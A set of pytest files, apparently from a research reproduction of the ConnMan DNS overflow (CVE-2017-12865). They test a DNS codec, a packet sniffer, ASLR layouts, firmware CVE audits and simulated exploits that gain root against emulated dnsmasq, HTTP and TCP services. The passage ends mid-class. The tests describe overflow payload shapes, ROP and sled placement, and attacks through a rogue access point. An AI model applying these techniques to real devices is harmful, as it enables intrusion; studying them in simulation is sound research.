        assert payload["series"]["timeline"]  # series samples were emitted
        assert "crash-free" in payload["breaches"]
        assert payload["postmortems"] >= 1

    def test_dash_cli_rejects_bad_rule(self, capsys):
        assert main(["dash", "--once", "--slo", "nope"]) == 2
        assert "grammar" in capsys.readouterr().err


class TestBenchGate:
    def test_identical_payload_passes(self):
        payload = validate_baseline(collect_baseline(steps=1200))
        result = compare_baseline(payload, json.loads(json.dumps(payload)))
        assert result["ok"]
        assert "verdict: pass" in describe_comparison(result)

    def test_degraded_cached_throughput_fails(self):
        old = collect_baseline(steps=1200)
        new = json.loads(json.dumps(old))
        for entry in new["benchmarks"]:
            entry["cached"]["steps_per_s"] = entry["cached"]["steps_per_s"] / 2
        result = compare_baseline(old, new)
        assert not result["ok"]
        failed = [c for c in result["checks"] if not c["ok"]]
        assert {c["check"] for c in failed} == {"cached_throughput"}
        assert "REGRESSION" in describe_comparison(result)

    def test_decode_call_floor_regression_fails(self):
        old = collect_baseline(steps=1200)
        new = json.loads(json.dumps(old))
        new["benchmarks"][0]["cached"]["decode_calls"] += 1
        result = compare_baseline(old, new)
        assert not result["ok"]
        assert any(c["check"] == "decode_call_floor" and not c["ok"]
                   for c in result["checks"])

    def test_missing_benchmark_is_a_regression(self):
        old = collect_baseline(steps=1200)
        new = json.loads(json.dumps(old))
        new["benchmarks"] = new["benchmarks"][:1]
        result = compare_baseline(old, new)
        assert any(c["check"] == "present" and not c["ok"]
                   for c in result["checks"])

    def test_trajectory_entry_shape(self):
        payload = collect_baseline(steps=1200)
        entry = trajectory_entry(payload, True, when="2026-01-01T00:00:00+00:00")
        assert entry["schema"] == "repro-bench-trajectory/v1"
        assert entry["compare_ok"] is True
        assert {b["name"] for b in entry["benchmarks"]} == {
            "x86-tight-loop", "arm-tight-loop",
            "x86-tight-loop-blocks", "arm-tight-loop-blocks"}
        by_name = {b["name"]: b for b in entry["benchmarks"]}
        assert "decode_call_ratio" in by_name["x86-tight-loop"]
        assert "block_step_share" in by_name["x86-tight-loop-blocks"]

    def test_block_dispatch_floor_regression_fails(self):
        old = collect_baseline(steps=1200)
        new = json.loads(json.dumps(old))
        for entry in new["benchmarks"]:
            if entry["kind"] == "blocks":
                entry["block_step_share"] -= 0.01  # past the 0.005 tolerance
        result = compare_baseline(old, new)
        assert not result["ok"]
        assert any(c["check"] == "block_dispatch_floor" and not c["ok"]
                   for c in result["checks"])

    def test_bench_cli_gate_pass_and_fail(self, tmp_path, capsys):
        baseline = tmp_path / "BENCH.json"
        trajectory = tmp_path / "trajectory.jsonl"
        # 6000 steps, not the cheaper 1200 the pure-shape tests use: the
        # gate compares measured throughput ratios, and sub-millisecond
        # runs make those ratios noise-dominated.
        baseline.write_text(json.dumps(collect_baseline(steps=6000)))
        assert main(["bench", "--steps", "6000",
                     "--compare", str(baseline),
                     "--trajectory", str(trajectory)]) == 0
        assert "GATE verdict: pass" in capsys.readouterr().out
        lines = trajectory.read_text().splitlines()
        assert len(lines) == 1 and json.loads(lines[0])["compare_ok"] is True

        # Synthetically inflate the committed baseline's cached throughput:
        # the fresh run can no longer meet the floor and the gate trips.
        degraded = json.loads(baseline.read_text())
        for entry in degraded["benchmarks"]:
            entry["cached"]["steps_per_s"] *= 100.0
        baseline.write_text(json.dumps(degraded))
        assert main(["bench", "--steps", "6000",
                     "--compare", str(baseline),
                     "--trajectory", str(trajectory)]) == 1
        captured = capsys.readouterr()
        assert "regression" in captured.err
        assert len(trajectory.read_text().splitlines()) == 2

    def test_bench_cli_unreadable_baseline(self, tmp_path, capsys):
        missing = tmp_path / "nope.json"
        assert main(["bench", "--steps", "1200",
                     "--compare", str(missing)]) == 1
        assert "cannot read baseline" in capsys.readouterr().err

    def test_bench_cli_invalid_baseline_schema(self, tmp_path, capsys):
        bad = tmp_path / "bad.json"
        bad.write_text(json.dumps({"schema": "nope", "benchmarks": []}))
        assert main(["bench", "--steps", "1200", "--compare", str(bad)]) == 1
        assert "failed validation" in capsys.readouterr().err

    def test_trace_events_cli_rejects_negative_limit(self, capsys):
        assert main(["trace-events", "--limit", "-2"]) == 2
        assert "--limit" in capsys.readouterr().err
