"""DNS name/message codec, including compression and property round-trips."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.dns import (
    Flags,
    Message,
    MessageDecodeError,
    NameEncodingError,
    PointerLoopError,
    Question,
    Rcode,
    RecordType,
    ResourceRecord,
    bytes_to_ip4,
    bytes_to_ip6,
    decode_name,
    encode_name,
    encode_pointer,
    ip4_to_bytes,
    ip6_to_bytes,
    make_query,
    make_response,
    skip_name,
)


class TestNameCodec:
    def test_encode_simple(self):
        assert encode_name("example.com") == b"\x07example\x03com\x00"

    def test_encode_root(self):
        assert encode_name("") == b"\x00"
        assert encode_name(".") == b"\x00"

    def test_trailing_dot_ignored(self):
        assert encode_name("a.b.") == encode_name("a.b")

    def test_empty_label_rejected(self):
        with pytest.raises(NameEncodingError):
            encode_name("a..b")

    def test_long_label_rejected(self):
        with pytest.raises(NameEncodingError):
            encode_name("x" * 64 + ".com")

    def test_long_name_rejected(self):
        with pytest.raises(NameEncodingError):
            encode_name(".".join(["abcdefgh"] * 40))

    def test_decode_simple(self):
        name, offset = decode_name(b"\x03foo\x03bar\x00", 0)
        assert name == "foo.bar"
        assert offset == 9

    def test_decode_with_pointer(self):
        packet = b"\x03com\x00" + b"\x07example" + encode_pointer(0)
        name, offset = decode_name(packet, 5)
        assert name == "example.com"
        assert offset == 15  # ends after the 2-byte pointer

    def test_pointer_loop_detected(self):
        packet = encode_pointer(0)
        with pytest.raises(PointerLoopError):
            decode_name(packet, 0)

    def test_truncated_name_rejected(self):
        with pytest.raises(PointerLoopError):
            decode_name(b"\x05ab", 0)

    def test_reserved_label_type_rejected(self):
        with pytest.raises(PointerLoopError):
            decode_name(b"\x45abc", 0)

    def test_skip_name(self):
        packet = encode_name("a.bb.ccc") + b"\xde\xad"
        assert skip_name(packet, 0) == len(packet) - 2

    def test_pointer_offset_range(self):
        with pytest.raises(NameEncodingError):
            encode_pointer(0x4000)


class TestRfcBoundaries:
    """Encode and decode must agree exactly at the RFC 1035 limits."""

    # 253 presentation chars = 255 wire octets: the largest legal name.
    MAX_PRESENTATION = ".".join(["a" * 63] * 3 + ["a" * 61])

    def test_max_presentation_name_is_253_chars(self):
        assert len(self.MAX_PRESENTATION) == 253
        assert len(encode_name(self.MAX_PRESENTATION)) == 255

    def test_253_char_name_round_trips(self):
        wire = encode_name(self.MAX_PRESENTATION)
        decoded, offset = decode_name(wire, 0)
        assert decoded == self.MAX_PRESENTATION
        assert offset == len(wire) == 255

    def test_254_char_name_rejected_by_encode(self):
        too_long = ".".join(["a" * 63] * 3 + ["a" * 62])  # 254 chars
        with pytest.raises(NameEncodingError):
            encode_name(too_long)

    def test_63_byte_label_round_trips(self):
        name = "b" * 63 + ".example"
        decoded, _offset = decode_name(encode_name(name), 0)
        assert decoded == name

    def test_64_byte_label_rejected_both_ways(self):
        with pytest.raises(NameEncodingError):
            encode_name("c" * 64 + ".example")
        with pytest.raises(PointerLoopError):
            decode_name(b"\x40" + b"c" * 64 + b"\x00", 0)

    def test_oversized_wire_name_rejected_by_decode(self):
        # 4 x 63-byte labels = 257 wire octets but only 255 presentation
        # characters: the old character-count guard let this through even
        # though encode_name could never have produced it.
        wire = (b"\x3f" + b"a" * 63) * 4 + b"\x00"
        assert len(wire) == 257
        with pytest.raises(PointerLoopError):
            decode_name(wire, 0)

    def test_compressed_expansion_past_limit_rejected(self):
        # The tail at offset 0 is itself legal (193 octets); prefixing one
        # more 63-byte label via a pointer expands to 257 octets.
        tail = (b"\x3f" + b"a" * 63) * 3 + b"\x00"
        packet = tail + b"\x3f" + b"b" * 63 + encode_pointer(0)
        with pytest.raises(PointerLoopError):
            decode_name(packet, len(tail))

    def test_compressed_name_at_limit_accepted(self):
        # Same shape but the tail is one label shorter: exactly 255 octets
        # once expanded — the decoder must accept the boundary case.
        tail = (b"\x3f" + b"a" * 63) * 2 + b"\x3d" + b"a" * 61 + b"\x00"
        packet = tail + b"\x3f" + b"b" * 63 + encode_pointer(0)
        decoded, _offset = decode_name(packet, len(tail))
        assert decoded.startswith("b" * 63 + ".")
        assert len(decoded) == 253


DNS_LABEL = st.text(
    alphabet=st.sampled_from("abcdefghijklmnopqrstuvwxyz0123456789-"),
    min_size=1, max_size=20,
).filter(lambda label: not label.startswith("-"))

DNS_NAME = st.lists(DNS_LABEL, min_size=1, max_size=5).map(".".join).filter(
    lambda name: len(name) <= 200
)


@settings(max_examples=100)
@given(name=DNS_NAME)
def test_property_name_roundtrip(name):
    decoded, offset = decode_name(encode_name(name), 0)
    assert decoded == name
    assert offset == len(encode_name(name))


class TestAddresses:
    def test_ip4_roundtrip(self):
        assert bytes_to_ip4(ip4_to_bytes("192.168.1.200")) == "192.168.1.200"

    def test_ip4_invalid(self):
        for bad in ("1.2.3", "1.2.3.4.5", "256.1.1.1", "a.b.c.d"):
            with pytest.raises(ValueError):
                ip4_to_bytes(bad)

    def test_ip6_elision(self):
        assert ip6_to_bytes("::1")[-1] == 1
        assert ip6_to_bytes("2001:db8::1")[:2] == b"\x20\x01"

    def test_ip6_full_form(self):
        data = ip6_to_bytes("1:2:3:4:5:6:7:8")
        assert bytes_to_ip6(data) == "1:2:3:4:5:6:7:8"

    def test_ip6_invalid(self):
        with pytest.raises(ValueError):
            ip6_to_bytes("1:2:3")

    @settings(max_examples=50)
    @given(octets=st.lists(st.integers(0, 255), min_size=4, max_size=4))
    def test_property_ip4_roundtrip(self, octets):
        text = ".".join(map(str, octets))
        assert bytes_to_ip4(ip4_to_bytes(text)) == text


class TestFlags:
    def test_roundtrip_all_bits(self):
        flags = Flags(qr=True, opcode=2, aa=True, tc=True, rd=False, ra=True, rcode=3)
        assert Flags.decode(flags.encode()) == flags

    def test_default_is_recursive_query(self):
        flags = Flags()
        assert not flags.qr and flags.rd

    @settings(max_examples=50)
    @given(word=st.integers(0, 0xFFFF))
    def test_property_decode_encode_preserves_known_bits(self, word):
        # Z bits (4-6) are not modeled; everything else round-trips.
        known = word & ~0x0070
        assert Flags.decode(word).encode() == known


class TestRecords:
    def test_a_record(self):
        record = ResourceRecord.a("host.example", "10.0.0.1", ttl=60)
        assert record.address == "10.0.0.1"
        assert record.rtype == RecordType.A

    def test_aaaa_record(self):
        record = ResourceRecord.aaaa("host.example", "2001:db8::42")
        assert record.address.startswith("2001:db8")

    def test_cname_rdata_is_encoded_name(self):
        record = ResourceRecord.cname("a.example", "b.example")
        assert record.rdata == encode_name("b.example")

    def test_txt_length_limit(self):
        with pytest.raises(ValueError):
            ResourceRecord.txt("t.example", b"x" * 256)

    def test_address_on_non_address_type_rejected(self):
        with pytest.raises(ValueError):
            ResourceRecord.cname("a", "b").address

    def test_record_wire_roundtrip(self):
        record = ResourceRecord.a("www.example.com", "93.184.216.34", ttl=3600)
        decoded, offset = ResourceRecord.decode(record.encode(), 0)
        assert decoded == record
        assert offset == len(record.encode())

    def test_question_wire_roundtrip(self):
        question = Question("www.example.com", RecordType.AAAA)
        decoded, offset = Question.decode(question.encode(), 0)
        assert decoded == question

    def test_type_names(self):
        assert RecordType.name(1) == "A"
        assert RecordType.name(28) == "AAAA"
        assert RecordType.name(999) == "TYPE999"


QUERY_IDS = st.integers(0, 0xFFFF)


class TestMessage:
    def test_query_roundtrip(self):
        query = make_query(0x1234, "www.example.com")
        decoded = Message.decode(query.encode())
        assert decoded == query

    def test_response_echoes_question(self):
        query = make_query(7, "a.example")
        response = make_response(query, (ResourceRecord.a("a.example", "1.2.3.4"),))
        assert response.id == 7
        assert response.is_response
        assert response.questions == query.questions

    def test_nxdomain_response(self):
        query = make_query(7, "missing.example")
        response = make_response(query, (), rcode=Rcode.NXDOMAIN)
        assert response.flags.rcode == Rcode.NXDOMAIN

    def test_short_packet_rejected(self):
        with pytest.raises(MessageDecodeError):
            Message.decode(b"\x00" * 11)

    def test_truncated_body_rejected(self):
        query = make_query(1, "www.example.com").encode()
        with pytest.raises((MessageDecodeError, PointerLoopError)):
            Message.decode(query[:-3])

    def test_describe_contains_sections(self):
        query = make_query(9, "x.example")
        response = make_response(query, (ResourceRecord.a("x.example", "9.9.9.9"),))
        text = response.describe()
        assert "x.example" in text and "9.9.9.9" in text

    @settings(max_examples=60)
    @given(message_id=QUERY_IDS, name=DNS_NAME,
           qtype=st.sampled_from([RecordType.A, RecordType.AAAA, RecordType.TXT]))
    def test_property_query_roundtrip(self, message_id, name, qtype):
        query = make_query(message_id, name, qtype)
        assert Message.decode(query.encode()) == query

    @settings(max_examples=60)
    @given(message_id=QUERY_IDS, name=DNS_NAME,
           octets=st.lists(st.integers(0, 255), min_size=4, max_size=4))
    def test_property_response_roundtrip(self, message_id, name, octets):
        query = make_query(message_id, name)
        answer = ResourceRecord.a(name, ".".join(map(str, octets)))
        response = make_response(query, (answer,))
        assert Message.decode(response.encode()) == response
