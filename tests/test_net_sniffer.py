"""Packet sniffer: capture, DNS decoding, payload detection."""

from repro.core import AttackScenario, PineappleWorld, attacker_knowledge
from repro.defenses import WX_ASLR
from repro.dns import SimpleDnsServer, StubResolver
from repro.exploit import builder_for, malicious_server_for
from repro.firmware import raspberry_pi_3b
from repro.net import (
    DNS_PORT,
    Host,
    Network,
    PacketSniffer,
    WifiPineapple,
)


def lan_with_dns():
    network = Network("lan", subnet_prefix="10.3.3")
    server_host = Host("dns")
    network.attach(server_host, ip="10.3.3.1")
    dns = SimpleDnsServer(default_address="4.4.4.4")
    server_host.bind_udp(DNS_PORT, lambda payload, _d: dns.handle_query(payload))
    client = Host("client")
    network.attach(client)
    client.configure(ip=client.ip, dns_server="10.3.3.1")
    return network, client


class TestCapture:
    def test_both_legs_captured(self):
        network, client = lan_with_dns()
        sniffer = PacketSniffer()
        sniffer.attach(network)
        StubResolver().resolve(client.dns_transport(), "a.example")
        packets = sniffer.poll()
        assert len(packets) == 2
        assert packets[0].dns is not None and not packets[0].dns.is_response
        assert packets[1].dns is not None and packets[1].dns.is_response

    def test_poll_is_incremental(self):
        network, client = lan_with_dns()
        sniffer = PacketSniffer()
        sniffer.attach(network)
        StubResolver().resolve(client.dns_transport(), "a.example")
        assert len(sniffer.poll()) == 2
        assert sniffer.poll() == []
        StubResolver().resolve(client.dns_transport(), "b.example")
        assert len(sniffer.poll()) == 2
        assert len(sniffer.captured) == 4

    def test_attach_after_traffic_sees_only_new(self):
        network, client = lan_with_dns()
        StubResolver().resolve(client.dns_transport(), "early.example")
        sniffer = PacketSniffer()
        sniffer.attach(network)
        assert sniffer.poll() == []

    def test_non_dns_traffic_not_decoded(self):
        network, client = lan_with_dns()
        peer = Host("peer")
        network.attach(peer)
        peer.bind_udp(9000, lambda payload, _d: b"pong")
        sniffer = PacketSniffer()
        sniffer.attach(network)
        client.send_udp(peer.ip, 9000, b"ping")
        packets = sniffer.poll()
        assert all(p.dns is None and not p.suspicious for p in packets)

    def test_benign_dns_not_suspicious(self):
        network, client = lan_with_dns()
        sniffer = PacketSniffer()
        sniffer.attach(network)
        StubResolver().resolve(client.dns_transport(), "fine.example")
        sniffer.poll()
        assert sniffer.suspicious_packets() == []

    def test_describe_format(self):
        network, client = lan_with_dns()
        sniffer = PacketSniffer()
        sniffer.attach(network)
        StubResolver().resolve(client.dns_transport(), "a.example")
        sniffer.poll()
        text = sniffer.describe()
        assert "[lan]" in text and "a.example" in text


class TestPayloadDetection:
    def test_exploit_response_flagged(self):
        world = PineappleWorld.build("Home")
        pi = raspberry_pi_3b(known_ssids=["Home"], profile=WX_ASLR)
        pi.join_wifi(world.radio)
        exploit = builder_for("arm", WX_ASLR).build(
            attacker_knowledge(AttackScenario("arm", "f", WX_ASLR))
        )
        pineapple = WifiPineapple(malicious_server_for(exploit))
        pineapple.impersonate("Home", world.radio)
        sniffer = PacketSniffer()
        sniffer.attach(world.home_network)
        sniffer.attach(pineapple.network)
        pi.join_wifi(world.radio)
        pi.lookup("ota.example")
        sniffer.poll()
        flagged = sniffer.suspicious_packets()
        assert len(flagged) == 1
        assert flagged[0].network == "pineapple-lan"
        assert "malformed name" in flagged[0].reason

    def test_dns_packets_view(self):
        network, client = lan_with_dns()
        sniffer = PacketSniffer()
        sniffer.attach(network)
        StubResolver().resolve(client.dns_transport(), "x.example")
        sniffer.poll()
        assert len(sniffer.dns_packets()) == 2
