"""Memory layouts and the ASLR policy."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.mem import (
    ARM_LAYOUT,
    BASE_LAYOUTS,
    PAGE_SIZE,
    X86_LAYOUT,
    AslrPolicy,
    layout_for,
    page_align_down,
    page_align_up,
)


class TestAlignment:
    def test_align_down(self):
        assert page_align_down(0x1234) == 0x1000

    def test_align_up(self):
        assert page_align_up(0x1001) == 0x2000

    def test_align_up_exact(self):
        assert page_align_up(0x2000) == 0x2000


class TestBaseLayouts:
    def test_x86_classic_text_base(self):
        assert X86_LAYOUT.text_base == 0x08048000

    def test_arm_text_base_matches_paper_listings(self):
        # Listing 2's gadget at 0x000112b1 implies text near 0x00010000.
        assert ARM_LAYOUT.text_base == 0x00010000

    def test_stack_base_derivation(self):
        assert X86_LAYOUT.stack_base == X86_LAYOUT.stack_top - X86_LAYOUT.stack_size

    def test_both_arches_registered(self):
        assert set(BASE_LAYOUTS) == {"x86", "arm"}

    def test_describe_mentions_every_region(self):
        text = X86_LAYOUT.describe()
        for token in ("text", "libc", "heap", "stack"):
            assert token in text


class TestAslrDisabled:
    def test_layout_is_exactly_base(self):
        layout = layout_for("x86", aslr=False, rng=random.Random(1))
        assert layout == X86_LAYOUT

    def test_deterministic_across_draws(self):
        a = layout_for("arm", aslr=False, rng=random.Random(1))
        b = layout_for("arm", aslr=False, rng=random.Random(999))
        assert a == b


class TestAslrEnabled:
    def test_libc_slides_down_only(self):
        for seed in range(20):
            layout = layout_for("x86", aslr=True, rng=random.Random(seed))
            assert layout.libc_base <= X86_LAYOUT.libc_base
            assert layout.libc_base > X86_LAYOUT.libc_base - 256 * PAGE_SIZE

    def test_libc_base_stays_page_aligned(self):
        for seed in range(20):
            layout = layout_for("arm", aslr=True, rng=random.Random(seed))
            assert layout.libc_base % PAGE_SIZE == 0

    def test_text_never_moves_non_pie(self):
        for seed in range(20):
            layout = layout_for("x86", aslr=True, rng=random.Random(seed))
            assert layout.text_base == X86_LAYOUT.text_base

    def test_stack_top_moves(self):
        tops = {
            layout_for("x86", aslr=True, rng=random.Random(seed)).stack_top
            for seed in range(32)
        }
        assert len(tops) > 8

    def test_entropy_across_seeds(self):
        bases = {
            layout_for("x86", aslr=True, rng=random.Random(seed)).libc_base
            for seed in range(64)
        }
        assert len(bases) > 32

    def test_same_rng_stream_gives_different_boots(self):
        rng = random.Random(7)
        policy = AslrPolicy(enabled=True)
        first = policy.instantiate("x86", rng)
        second = policy.instantiate("x86", rng)
        assert first != second

    def test_unknown_arch_rejected(self):
        with pytest.raises(KeyError):
            layout_for("mips", aslr=False, rng=random.Random(0))


@settings(max_examples=30)
@given(seed=st.integers(min_value=0, max_value=10_000))
def test_property_randomized_regions_never_collide(seed):
    """Under any slide, binary/libc/heap/stack regions stay disjoint."""
    layout = layout_for("arm", aslr=True, rng=random.Random(seed))
    regions = [
        (layout.text_base, layout.text_base + 0x20000),
        (layout.heap_base, layout.heap_base + layout.heap_size),
        (layout.libc_base, layout.libc_base + 0x20000),
        (layout.stack_base, layout.stack_top),
    ]
    regions.sort()
    for (_, end), (start, _) in zip(regions, regions[1:]):
        assert end <= start
