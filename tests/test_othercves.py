"""§V adaptation: service specs, transports, and retargeted exploits."""

import pytest

from repro.connman import EventKind
from repro.defenses import NONE, WX, WX_ASLR
from repro.dns import build_raw_response, make_query
from repro.exploit import builder_for
from repro.othercves import (
    ALL_SPECS,
    ASTERISK,
    AdaptedService,
    DNSMASQ,
    EMBEDDED_HTTPD,
    ROUTER_HTTPD,
    SYSTEMD_RESOLVED,
    TCP_SERVICE,
    adapt_exploit,
    deliver_to_service,
    knowledge_for_service,
    make_http_request,
    make_tcp_packet,
)


class TestSpecs:
    def test_all_specs_cover_three_protocols(self):
        assert {spec.protocol for spec in ALL_SPECS} == {"dns", "http", "tcp"}

    def test_dns_family_marked_minimal(self):
        for spec in (DNSMASQ, SYSTEMD_RESOLVED, ASTERISK):
            assert spec.adaptation_effort == "minimal"

    def test_protocol_family_marked_moderate(self):
        for spec in (ROUTER_HTTPD, EMBEDDED_HTTPD, TCP_SERVICE):
            assert spec.adaptation_effort == "moderate"

    def test_buffer_sizes_differ_from_connman(self):
        assert DNSMASQ.frame.buffer_size != 1024
        assert DNSMASQ.frame.ret_offset == DNSMASQ.frame.buffer_size + 12 + 4

    def test_distinct_build_seeds(self):
        assert len({spec.build_seed for spec in ALL_SPECS}) == len(ALL_SPECS)

    def test_describe(self):
        assert "CVE-2017-14493" in DNSMASQ.describe()


class TestServiceLifecycle:
    def test_binary_renamed(self):
        service = AdaptedService(DNSMASQ)
        assert service.binary.name == "dnsmasq"

    def test_wrong_protocol_entry_rejected(self):
        service = AdaptedService(DNSMASQ)
        with pytest.raises(ValueError):
            service.handle_http_request(b"GET / HTTP/1.1\r\n\r\n")
        with pytest.raises(ValueError):
            service.handle_tcp_packet(b"CTRL\x00\x00")

    def test_crash_marks_down_and_restart_revives(self):
        service = AdaptedService(DNSMASQ)
        blob = b"".join(bytes([63]) + b"A" * 63 for _ in range(8)) + b"\x00"
        query = make_query(1, "x.example")
        event = service.handle_dns_reply(build_raw_response(query, blob), expected_id=1)
        assert event.kind == EventKind.CRASHED
        assert not service.alive
        service.restart()
        assert service.alive

    def test_patched_service_drops_oversize(self):
        service = AdaptedService(DNSMASQ, vulnerable=False)
        blob = b"".join(bytes([63]) + b"A" * 63 for _ in range(8)) + b"\x00"
        query = make_query(1, "x.example")
        event = service.handle_dns_reply(build_raw_response(query, blob), expected_id=1)
        assert event.kind == EventKind.DROPPED
        assert service.alive


class TestHttpVictim:
    def test_request_builder_roundtrip(self):
        raw = make_http_request(b"payload-bytes")
        assert raw.startswith(b"POST ")
        assert b"Content-Length: 13" in raw

    def test_malformed_requests_dropped(self):
        service = AdaptedService(ROUTER_HTTPD)
        for bad in (b"GET / HTTP/1.1\r\n\r\n",          # wrong method
                    b"POST /x HTTP/1.1\r\nContent-Length: 5\r\n\r\nab",  # short body
                    b"POST /x HTTP/1.1\r\n\r\nbody",     # no content-length
                    b"no-separator"):
            event = service.handle_http_request(bad)
            assert event.kind == EventKind.DROPPED, bad

    def test_small_body_handled(self):
        service = AdaptedService(ROUTER_HTTPD)
        event = service.handle_http_request(make_http_request(b"tiny"))
        assert event.kind == EventKind.RESPONDED

    def test_oversized_body_crashes_vulnerable(self):
        service = AdaptedService(ROUTER_HTTPD)
        body = b"A" * (ROUTER_HTTPD.frame.ret_offset + 16)
        event = service.handle_http_request(make_http_request(body))
        assert event.kind == EventKind.CRASHED

    def test_oversized_body_dropped_when_patched(self):
        service = AdaptedService(ROUTER_HTTPD, vulnerable=False)
        body = b"A" * (ROUTER_HTTPD.frame.ret_offset + 16)
        event = service.handle_http_request(make_http_request(body))
        assert event.kind == EventKind.DROPPED


class TestTcpVictim:
    def test_bad_magic_dropped(self):
        service = AdaptedService(TCP_SERVICE)
        event = service.handle_tcp_packet(b"XXXX\x00\x04body")
        assert event.kind == EventKind.DROPPED

    def test_packet_builder(self):
        packet = make_tcp_packet(b"hello")
        assert packet[:4] == b"CTRL"
        assert int.from_bytes(packet[4:6], "big") == 5

    def test_oversized_body_crashes(self):
        service = AdaptedService(TCP_SERVICE)
        body = b"B" * (TCP_SERVICE.frame.ret_offset + 8)
        event = service.handle_tcp_packet(make_tcp_packet(body))
        assert event.kind == EventKind.CRASHED


class TestAdaptedExploits:
    @pytest.mark.parametrize("spec", ALL_SPECS, ids=lambda spec: spec.name)
    def test_rop_roots_every_service_under_full_protections(self, spec):
        service = AdaptedService(spec, profile=WX_ASLR)
        exploit = adapt_exploit(builder_for(spec.arch, WX_ASLR), service, aslr_blind=True)
        report = deliver_to_service(exploit, service)
        assert report.got_root_shell, report.describe()

    def test_dns_family_minimal_modification_is_new_addresses(self):
        """The §V claim: the same builder retargets by re-reading addresses."""
        connman_knowledge = None
        from repro.core import AttackScenario, attacker_knowledge

        connman_knowledge = attacker_knowledge(AttackScenario("x86", "W^X", WX))
        service = AdaptedService(DNSMASQ, profile=WX)
        service_knowledge = knowledge_for_service(service, aslr_blind=False)
        # Different frame geometry and different addresses...
        assert service_knowledge.ret_offset != connman_knowledge.ret_offset
        assert service_knowledge.plt != connman_knowledge.plt
        # ...same builder type, successful exploit.
        exploit = builder_for("x86", WX).build(service_knowledge)
        assert deliver_to_service(exploit, service).got_root_shell

    def test_connman_payload_fails_against_dnsmasq_unmodified(self):
        """Without the 'minimal modification' the offsets are wrong."""
        from repro.core import AttackScenario, attacker_knowledge
        from repro.exploit import X86Ret2Libc

        connman_knowledge = attacker_knowledge(AttackScenario("x86", "W^X", WX))
        exploit = X86Ret2Libc().build(connman_knowledge)  # connman's 1040 offset
        service = AdaptedService(DNSMASQ, profile=WX)
        report = deliver_to_service(exploit, service)
        assert not report.got_root_shell

    def test_canary_blocks_adapted_exploit(self):
        service = AdaptedService(ASTERISK, profile=NONE.with_(canary=True))
        exploit = adapt_exploit(builder_for("x86", NONE), service, aslr_blind=False)
        report = deliver_to_service(exploit, service)
        assert report.event.signal == "SIGABRT"

    def test_http_delivery_uses_raw_image(self):
        service = AdaptedService(EMBEDDED_HTTPD, profile=NONE)
        exploit = adapt_exploit(builder_for("x86", NONE), service, aslr_blind=False)
        report = deliver_to_service(exploit, service)
        assert report.got_root_shell
        assert report.protocol == "http"


class TestAdaptationMatrix:
    """Regression: the unprotected (§V, profile=none) column used to fail.

    With the code-injection builders tuned only for Connman's 1024-byte
    buffer, the ARM island (fixed ISLAND_OFFSET=512) ran past the 512/256
    byte adapted buffers and glued onto the return word (a >63-byte fixed
    stretch no DNS label can cover), and the x86 sled could not reach a
    256-aligned entry inside tcp-control's 192-byte buffer.
    """

    PROFILES = (("none", NONE), ("W^X", WX), ("W^X+ASLR", WX_ASLR))

    @pytest.mark.parametrize("spec", ALL_SPECS, ids=lambda spec: spec.name)
    def test_every_service_roots_under_every_profile(self, spec):
        for label, profile in self.PROFILES:
            service = AdaptedService(spec, profile=profile)
            builder = builder_for(spec.arch, profile)
            exploit = adapt_exploit(builder, service, aslr_blind=profile.aslr)
            report = deliver_to_service(exploit, service)
            assert report.got_root_shell, (spec.name, label, report.describe())

    def test_arm_island_pulled_inside_small_buffers(self):
        for spec in (SYSTEMD_RESOLVED, ROUTER_HTTPD):
            service = AdaptedService(spec, profile=NONE)
            exploit = adapt_exploit(builder_for("arm", NONE), service,
                                    aslr_blind=False)
            # The saved-pc word points at the island; it must sit inside
            # the overflowable buffer, not past its end.
            start, end, _ = next(
                span for span in exploit.payload.spans if "island" in span[2])
            assert end <= spec.frame.buffer_size, exploit.payload.notes

    def test_x86_restricted_spray_stays_inside_tiny_buffer(self):
        service = AdaptedService(TCP_SERVICE, profile=NONE)
        exploit = adapt_exploit(builder_for("x86", NONE), service,
                                aslr_blind=False)
        knowledge = knowledge_for_service(service, aslr_blind=False)
        sled_start, sled_end, _ = next(
            span for span in exploit.payload.spans if "sled" in span[2])
        # Every planned boundary byte inside the spray keeps the patched
        # return address at or after the sled's first byte.
        spray_start, spray_end, _ = next(
            span for span in exploit.payload.spans if "spray" in span[2])
        image = exploit.payload.image
        page = knowledge.name_address & ~0xFF
        for boundary in exploit.payload.boundaries:
            if spray_start <= boundary < spray_end:
                landing = page + image[boundary]
                assert knowledge.name_address + sled_start <= landing
                assert landing < knowledge.name_address + sled_end
