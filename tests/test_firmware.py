"""Firmware catalog, CVE audit, and IoT device behaviour."""

import pytest

from repro.connman import EventKind
from repro.defenses import NONE, WX_ASLR
from repro.dns import SimpleDnsServer
from repro.firmware import (
    ALL_CVES,
    CONNMAN_CVE,
    FIRMWARE_CATALOG,
    IoTDevice,
    OPENELEC,
    TIZEN_3,
    TIZEN_4,
    UBUNTU_MATE_PI,
    YOCTO,
    audit_firmware,
    audit_fleet,
    catalog_by_name,
    raspberry_pi_3b,
)
from repro.net import AccessPoint, DhcpServer, DNS_PORT, Host, Network, RadioEnvironment


class TestCatalog:
    def test_paper_survey_versions(self):
        assert str(YOCTO.connman_version) == "1.31"
        assert str(OPENELEC.connman_version) == "1.34"
        assert TIZEN_3.ships_vulnerable_connman
        assert not TIZEN_4.ships_vulnerable_connman

    def test_pi_image_is_arm(self):
        assert UBUNTU_MATE_PI.arch == "arm"

    def test_catalog_lookup(self):
        assert catalog_by_name("openelec-8") is OPENELEC
        with pytest.raises(KeyError):
            catalog_by_name("freebsd")

    def test_describe_mentions_status(self):
        assert "VULNERABLE" in OPENELEC.describe()
        assert "patched" in TIZEN_4.describe()


class TestCveDb:
    def test_target_cve_identity(self):
        assert CONNMAN_CVE.cve_id == "CVE-2017-12865"
        assert CONNMAN_CVE.protocol == "dns"

    def test_section_v_cves_present(self):
        ids = {cve.cve_id for cve in ALL_CVES}
        for expected in ("CVE-2017-14493", "CVE-2018-9445", "CVE-2018-19278",
                         "CVE-2019-8985", "CVE-2019-9125", "CVE-2018-6692",
                         "CVE-2018-20410"):
            assert expected in ids

    def test_audit_flags_vulnerable_image(self):
        findings = audit_firmware(OPENELEC)
        assert len(findings) == 1
        assert findings[0].cve is CONNMAN_CVE
        assert "1.34" in findings[0].reason

    def test_audit_passes_patched_image(self):
        assert audit_firmware(TIZEN_4) == []

    def test_fleet_audit_counts(self):
        findings = audit_fleet(FIRMWARE_CATALOG)
        assert len(findings) == 5  # everything but tizen-4


class TestIoTDevice:
